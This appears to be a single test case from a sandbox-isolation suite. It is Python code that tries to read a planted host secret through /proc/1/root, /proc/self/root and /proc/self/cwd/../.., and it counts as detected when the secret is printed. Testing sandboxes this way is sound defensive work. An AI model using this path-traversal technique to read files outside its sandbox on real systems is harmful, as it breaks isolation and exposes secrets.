# id: fs-read-secret-proc-root
# category: filesystem
# description: read the host secret through /proc/1/root and /proc/self/cwd/..
# source: proc(5) magic links
# detect: secret (the planted secret appears in the output)
import os

for prefix in ('/proc/1/root', '/proc/self/root', '/proc/self/cwd/../..'):
    try:
        fd = os.open(prefix + SECRET_PATH, os.O_RDONLY)
        print(os.read(fd, 4096).decode())
        break
    except OSError:
        pass
